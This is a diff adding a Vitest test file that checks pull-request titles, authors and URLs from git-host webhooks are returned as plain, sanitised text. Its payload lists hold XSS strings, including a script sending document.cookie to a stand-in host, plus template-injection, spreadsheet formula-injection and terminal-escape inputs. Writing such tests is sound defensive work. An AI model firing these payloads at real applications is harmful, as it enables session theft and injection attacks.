@@ -1,0 +1,85 @@
+// Titles and authors of pull requests that want to be more than text: they are stored and answered as text, by every git host.
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { databases } from '../../../test/databases.ts'
+import { deliverAs, dialects } from '../../../test/git-host-dialects.ts'
+import { buildHookedProject, type HookedProject, stateOf } from '../../../test/git-host-events.ts'
+import { openTestApp, type TestApp } from '../../../test/test-app.ts'
+
+const shownAsSent = [
+  "<script>fetch('//attacker.test/'+document.cookie)</script>",
+  '<img src=x onerror=alert(1)>',
+  '"><svg/onload=alert(1)>',
+  'javascript:alert(1)',
+  '<a href="javascript:alert(1)">x</a>',
+  '${7*7}',
+  '</title><script>alert(1)</script>',
+  '[x](javascript:alert(1))',
+  '<!--<img src=--><img src=x onerror=alert(1)//>',
+  '{{7*7}}',
+  '=cmd|"/c calc"!A1',
+]
+
+const shownOtherwise: readonly (readonly [string, string])[] = [
+  ['\u202e\u2066evil', 'evil'],
+  ['\0x', 'x'],
+  ['a\u2028b', 'ab'],
+  ['\u001b[2J\u001b]0;owned\u0007x', 'x'],
+  ['two\r\nlines: of a header', 'two lines: of a header'],
+  ['half \ud800 a character', 'half a character'],
+  [`${'\u009d'.repeat(5000)}x`, 'x'],
+  ['🚀'.repeat(300), '🚀'.repeat(200)],
+]
+
+describe.each(databases)('hostile words on $name', (source) => {
+  let app: TestApp
+
+  beforeAll(async () => {
+    app = await openTestApp(source)
+  })
+  afterAll(() => app.close())
+
+  describe.each(dialects)('of $name', (dialect) => {
+    let project: HookedProject
+    let number = 0
+
+    beforeAll(async () => {
+      const { repository_host } = dialect
+      project = await buildHookedProject(app.ctx, { repository_host, environment_limit: 1000 })
+    })
+
+    const open = async (news: Parameters<typeof dialect.pullRequest>[0]) => {
+      number += 1
+      const told = dialect.pullRequest({ ...news, number })
+      const { body } = await deliverAs(dialect, { app, hookId: project.hook_id }, told)
+      expect(body).toEqual({ verdict: 'accepted', reason: null })
+      const { rows } = await stateOf(app.ctx, project.id)
+      const { id } = rows.environments.find(({ name }) => name === `pr-${number}`) ?? { id: 0 }
+      return app.call('GET', `/api/environments/${id}`, { as: project.owner })
+    }
+
+    const words = [...shownAsSent.map((text) => [text, text] as const), ...shownOtherwise]
+    test.each(words)('%.60j is text', async (sent, shown) => {
+      const { body, headers } = await open({ title: sent, author: sent })
+      expect(body.pull_request).toMatchObject({ title: shown, author: shown })
+      expect(headers).toMatchObject({
+        'content-type': 'application/json; charset=utf-8',
+        'x-content-type-options': 'nosniff',
+      })
+    })
+
+    test.each([
+      'javascript:alert(1)',
+      'data:text/html,<script>alert(1)</script>',
+      '//evil.example',
+      ' ',
+      'x'.repeat(3000),
+    ])('%.40j leads nowhere', async (url) => {
+      expect((await open({ url })).body.pull_request.url).toBeNull()
+    })
+
+    test('what breaks out of an address is written as one', async () => {
+      const { body } = await open({ url: 'https://git.example.com/"><script>alert(1)</script>\n' })
+      expect(body.pull_request.url).toBe('https://git.example.com/%22%3E%3Cscript%3Ealert(1)%3C/script%3E')
+    })
+  })
+})
